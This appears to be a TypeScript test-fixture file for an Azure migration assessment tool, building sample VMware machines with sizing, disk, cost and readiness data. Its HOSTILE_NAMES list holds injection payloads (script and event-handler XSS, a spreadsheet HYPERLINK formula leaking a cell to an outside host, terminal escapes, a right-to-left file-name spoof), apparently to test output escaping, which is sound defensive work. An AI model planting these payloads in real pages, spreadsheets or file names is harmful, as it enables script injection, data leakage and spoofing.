import type { AssessedMachine, MachineMethod } from '../../src/assessment/index.js';
import type { CostLine, MachineCost, PriceTerms } from '../../src/cost/index.js';
import {
  bytesOfGib,
  bytesPerSecondOfMb,
  cores,
  gib,
  iops,
  mib,
  micros,
  percent,
  toMachineId,
} from '../../src/model/index.js';
import type { Micros, Origins } from '../../src/model/index.js';
import type { Finding } from '../../src/readiness/index.js';
import type { CreditEvidence, DiskChoice, DiskNeed, MachineNeed } from '../../src/sizing/index.js';

/** Names that try to leave the place where they are printed. */
export const HOSTILE_NAMES = [
  '</script><script>alert(1)</script>',
  '<img src=x onerror="alert(1)">',
  '=HYPERLINK("https://example.invalid/?"&A1,"click")',
  '" onmouseover="alert(1)',
  "'><svg/onload=alert(1)>",
  '\u001b[31mred\u0007\r\nnext line',
  '@SUM(1+1)',
  '\u202egpj.exe',
  '`${alert(1)}`',
  '&lt;b&gt; and ]]> and --> and <!--',
] as const;

/** Every set of terms. */
export const TERMS: readonly PriceTerms[] = [
  'payAsYouGo',
  'hybridBenefit',
  'reserved1Year',
  'reserved3Year',
  'savings1Year',
  'savings3Year',
  'reserved1YearHybrid',
  'reserved3YearHybrid',
  'savings1YearHybrid',
  'savings3YearHybrid',
];

const usd = (dollars: number): Micros => micros(Math.round(dollars * 1_000_000));

const originsOf = (line: number): Origins =>
  Object.assign(Object.create(null) as Record<string, Origins[string]>, {
    cores: { file: 'estate.xlsx', sheet: 'vInfo', line, column: 'CPUs', how: 'read' },
    memoryBytes: { file: 'estate.xlsx', sheet: 'vInfo', line, column: 'Memory', how: 'read' },
    'os.name': { file: 'estate.xlsx', sheet: 'vInfo', line, column: 'OS according to the VMware Tools', how: 'read' },
    'disks[0].sizeBytes': { file: 'estate.xlsx', sheet: 'vDisk', line: 2 * line, column: 'Capacity MiB', how: 'read' },
    'disks[1].sizeBytes': {
      file: 'estate.xlsx',
      sheet: 'vDisk',
      line: 2 * line + 1,
      column: 'Capacity MiB',
      how: 'read',
    },
    environment: {
      file: 'estate.xlsx',
      how: 'assumed',
      note: 'no source names an environment; the policy takes production',
    },
  } satisfies Origins);

const DISK_NEEDS: readonly DiskNeed[] = [
  {
    name: 'Hard disk 1',
    isOs: true,
    sizeBytes: bytesOfGib(100),
    sizeBasis: 'stated',
    iops: null,
    bytesPerSecond: null,
  },
  {
    name: 'Hard disk 2',
    isOs: false,
    sizeBytes: bytesOfGib(400),
    sizeBasis: 'stated',
    iops: null,
    bytesPerSecond: null,
  },
];

const DISKS: readonly DiskChoice[] = [
  {
    name: 'Hard disk 1',
    isOs: true,
    type: 'PremiumSSD',
    redundancy: 'LRS',
    tier: 'P10',
    sizeGiB: gib(128),
    iops: iops(500),
    bytesPerSecond: bytesPerSecondOfMb(100),
    perMonth: usd(19.71),
    priceSource: 'flexera-2026-07-12',
    reason: 'the smallest Premium SSD that holds 100 GiB; IOPS and throughput are unknown, so size decides',
  },
  {
    name: 'Hard disk 2',
    isOs: false,
    type: 'PremiumSSD',
    redundancy: 'LRS',
    tier: 'P20',
    sizeGiB: gib(512),
    iops: iops(2300),
    bytesPerSecond: bytesPerSecondOfMb(150),
    perMonth: usd(73.22),
    priceSource: 'flexera-2026-07-12',
    reason: 'the smallest Premium SSD that holds 400 GiB; IOPS and throughput are unknown, so size decides',
  },
];

/** What a 16-core machine at 20 % needs, with each step. */
function aNeed(overrides: Partial<MachineNeed> = {}): MachineNeed {
  return {
    basis: 'stated',
    cores: cores(4.16),
    memoryBytes: bytesOfGib(13),
    coresSteps: [
      { kind: 'read', text: '16 cores configured', value: 16 },
      { kind: 'used', text: '16 cores x 20 % used = 3.2 cores', value: 3.2 },
      { kind: 'comfort', text: '3.2 cores x 1.3 comfort = 4.16 cores', value: 4.16 },
    ],
    memorySteps: [
      { kind: 'read', text: '32 GiB configured', value: 34_359_738_368 },
      { kind: 'used', text: '32 GiB x 31.25 % used = 10 GiB', value: 10_737_418_240 },
      { kind: 'comfort', text: '10 GiB x 1.3 comfort = 13 GiB', value: 13_958_643_712 },
    ],
    cpuPercent: percent(20),
    memoryPercent: percent(31.25),
    disks: DISK_NEEDS,
    diskCount: 2,
    nicCount: 1,
    totalIops: null,
    totalBytesPerSecond: null,
    networkOutBytesPerSecond: null,
    generation: 2,
    architecture: 'x64',
    isWindows: true,
    environment: 'production',
    environmentIsAssumed: true,
    missing: ['MegabytesPerSecondOfReadMissing'],
    ...overrides,
  };
}

/** A bill whose parts add up: compute, Windows licence, the two disks above. */
function aCost(overrides: Partial<MachineCost> = {}): MachineCost {
  const lines: readonly CostLine[] = [
    {
      kind: 'compute',
      label: 'Standard_D8as_v5, 730 h',
      perMonth: usd(251.12),
      working: '0.344 USD/h x 730 h',
      source: 'radar-2026-08-22',
    },
    {
      kind: 'windowsLicence',
      label: 'Windows Server, 8 vCPU',
      perMonth: usd(268.64),
      working: '0.368 USD/h x 730 h',
      source: 'radar-2026-08-22',
    },
    {
      kind: 'disk',
      label: 'PremiumSSD LRS P10 for "Hard disk 1"',
      perMonth: usd(19.71),
      working: '19.71 USD per month',
      source: 'flexera-2026-07-12',
    },
    {
      kind: 'disk',
      label: 'PremiumSSD LRS P20 for "Hard disk 2"',
      perMonth: usd(73.22),
      working: '73.22 USD per month',
      source: 'flexera-2026-07-12',
    },
  ];
  return {
    terms: 'payAsYouGo',
    compute: usd(251.12),
    licence: usd(268.64),
    storage: usd(92.93),
    services: usd(0),
    perMonth: usd(612.69),
    unknownLines: 0,
    lines,
    scenarios: {
      payAsYouGo: usd(519.76),
      hybridBenefit: usd(251.12),
      reserved1Year: usd(416.8),
      reserved3Year: usd(363.91),
      savings1Year: null,
      savings3Year: null,
      reserved1YearHybrid: usd(148.16),
      reserved3YearHybrid: usd(95.27),
      savings1YearHybrid: null,
      savings3YearHybrid: null,
    },
    ...overrides,
  };
}

/** A finding that asks for something to be done before the move. */
export function aFinding(overrides: Partial<Finding> = {}): Finding {
  return {
    rule: 'os/past-end-of-support',
    question: 'azure',
    severity: 'conditions',
    message: 'Windows Server 2012 R2 left extended support on 2023-10-10',
    remedy: 'upgrade in place to Windows Server 2022, or take Extended Security Updates, which are free in Azure',
    source: 'endoflife.date, windows-server, read 2026-08-22',
    code: 'WindowsServerVersionConditionallySupported',
    ...overrides,
  };
}

/** Nothing stands in the way of snapshots. */
const A_METHOD: MachineMethod = {
  kind: 'agentless',
  reason: 'it is copied from snapshots of its platform, without an agent: nothing forbids that',
  findings: [],
  alternatives: [{ kind: 'rebuild', reason: 'it can be copied as it is' }],
  decidedBy: 'method/agentless',
};

/** A sized, running Windows machine with one condition. */
export function anAssessedMachine(overrides: Partial<AssessedMachine> = {}): AssessedMachine {
  const name = overrides.name ?? 'erp-app-01';
  return {
    id: toMachineId(`vmware:vcenter.example/${name.toLowerCase()}`),
    name,
    power: 'on',
    environment: 'production',
    environmentIsAssumed: true,
    application: 'ERP',
    criticality: null,
    source: {
      kind: 'vmware',
      cores: 16,
      memoryBytes: bytesOfGib(32),
      os: 'Microsoft Windows Server 2012 R2 (64-bit)',
      osFamily: 'windows',
      firmware: 'efi',
      diskCount: 2,
      storageBytes: bytesOfGib(500),
      storageUsedBytes: bytesOfGib(212),
      nicCount: 1,
      addresses: ['10.20.0.11'],
      host: 'esx-03.example',
      cluster: 'CL-PROD',
      datacenter: 'Geelong',
    },
    readiness: {
      state: 'readyWithConditions',
      code: 'WindowsServerVersionConditionallySupported',
      migration: 'ready',
      protection: 'ready',
      security: 'ready',
    },
    method: A_METHOD,
    findings: [aFinding()],
    coverage: null,
    need: aNeed(),
    size: { name: 'Standard_D8as_v5', vcpus: 8, memoryMiB: mib(32_768), acu: 230 },
    disks: DISKS,
    cost: aCost(),
    refused: {
      byLimit: { region: 12, series: 540, cores: 31, memory: 9 },
      nearest: [
        { name: 'Standard_D4as_v5', limit: 'cores', why: 'needs 4.16 cores, has 4', perMonth: micros(259_880_000) },
      ],
      cheapest: [
        { name: 'Standard_D2as_v5', limit: 'cores', why: 'needs 4.16 cores, has 2', perMonth: usd(129.94) },
        {
          name: 'Standard_F4s_v2',
          limit: 'series',
          why: 'Fsv2 is not in the families of the policy',
          perMonth: usd(257.69),
        },
        { name: 'Standard_D4as_v5', limit: 'cores', why: 'needs 4.16 cores, has 4', perMonth: usd(259.88) },
      ],
    },
    limits: [
      { limit: 'cores', needs: 4.16, has: 8 },
      { limit: 'memory', needs: 13_958_643_712, has: 34_359_738_368 },
      { limit: 'dataDisks', needs: 1, has: 16 },
      { limit: 'nics', needs: 1, has: 4 },
      { limit: 'diskIops', needs: 0, has: 12_800 },
      { limit: 'diskThroughput', needs: 0, has: 192_000_000 },
      { limit: 'network', needs: 0, has: null },
    ],
    unchecked: ['network'],
    nextUp: {
      name: 'Standard_D16as_v5',
      vcpus: 16,
      memoryMiB: mib(65_536),
      perMonth: usd(1039.52),
      distance: 'needed once the need passes 8 cores or 32 GiB',
      bound: { cores: 8, memoryBytes: bytesOfGib(32) },
      away: { cores: 3.84, memoryBytes: bytesOfGib(19) },
      morePerMonth: usd(519.76),
    },
    nextDown: {
      name: 'Standard_D4as_v5',
      vcpus: 4,
      memoryMiB: mib(16_384),
      perMonth: usd(259.88),
      distance: 'fits once the need falls to 4 cores: 0.16 cores less',
      bound: { cores: 4, memoryBytes: bytesOfGib(16) },
      away: { cores: 0.16, memoryBytes: bytesOfGib(0) },
      morePerMonth: micros(-259_880_000),
    },
    unsized: null,
    origins: originsOf(7),
    ...overrides,
  };
}

/** A machine for which no size was found: the source does not say how much memory it has. */
export function anUnsizedMachine(overrides: Partial<AssessedMachine> = {}): AssessedMachine {
  const whole = anAssessedMachine({ name: 'legacy-hpux', ...overrides });
  return {
    ...whole,
    source: { ...whole.source, memoryBytes: null, os: null, osFamily: 'unknown', firmware: null },
    readiness: {
      state: 'unknown',
      code: 'UnknownOperatingSystem',
      migration: 'unknown',
      protection: 'unknown',
      security: 'unknown',
    },
    findings: [
      aFinding({
        rule: 'os/unknown',
        severity: 'unknown',
        message: 'the operating system is not known',
        remedy: 'state the operating system in the column "OS according to the configuration file"',
        code: 'UnknownOperatingSystem',
      }),
    ],
    need: null,
    size: null,
    disks: [],
    cost: null,
    refused: null,
    limits: [],
    unchecked: [],
    nextUp: null,
    nextDown: null,
    unsized: {
      reason: 'no source says how much memory the machine has',
      remedy: 'fill in the column "Memory" of vInfo and run again',
      code: 'MemoryMissing',
    },
    ...overrides,
  };
}

/** A week of means under which one burstable size would not last. */
const A_CREDIT_EVIDENCE: CreditEvidence = {
  fromMs: Date.UTC(2026, 7, 3),
  toMs: Date.UTC(2026, 7, 10),
  stepMinutes: 10,
  steps: 1008,
  gaps: 3,
  gapCores: 1.9,
  meanCores: 0.5,
  comfort: 1.3,
  verdicts: [
    {
      size: 'Standard_B2s_v2',
      isLasting: false,
      creditsPerHour: 24,
      startCredits: 60,
      leastCredits: -0.25,
      leastAtMs: Date.UTC(2026, 7, 4),
      netPerHour: -6,
    },
  ],
};

/** A running Linux machine whose compute has no known price. */
export function aMachineOfUnknownPrice(overrides: Partial<AssessedMachine> = {}): AssessedMachine {
  const whole = anAssessedMachine({ name: 'cache-01' });
  return {
    ...whole,
    environment: 'nonProduction',
    environmentIsAssumed: false,
    source: { ...whole.source, cores: 2, memoryBytes: bytesOfGib(8), os: 'Ubuntu Linux (64-bit)', osFamily: 'linux' },
    readiness: { state: 'ready', code: 'NotApplicable', migration: 'ready', protection: 'ready', security: 'ready' },
    findings: [],
    need: aNeed({
      basis: 'allocated',
      cores: cores(2),
      memoryBytes: bytesOfGib(8),
      isWindows: false,
      cpuPercent: null,
      memoryPercent: null,
      environment: 'nonProduction',
      credits: A_CREDIT_EVIDENCE,
    }),
    size: { name: 'Standard_D2as_v7', vcpus: 2, memoryMiB: mib(8192), acu: 230 },
    cost: aCost({
      compute: null,
      licence: usd(0),
      perMonth: usd(92.93),
      unknownLines: 1,
      lines: [
        {
          kind: 'compute',
          label: 'Standard_D2as_v7, 730 h',
          perMonth: null,
          working: 'no price of Standard_D2as_v7 in eastus is known; give it in a price sheet',
          source: null,
        },
        ...aCost().lines.filter((line) => line.kind === 'disk'),
      ],
      scenarios: Object.fromEntries(TERMS.map((terms) => [terms, null])) as MachineCost['scenarios'],
    }),
    nextUp: null,
    nextDown: null,
    ...overrides,
  };
}
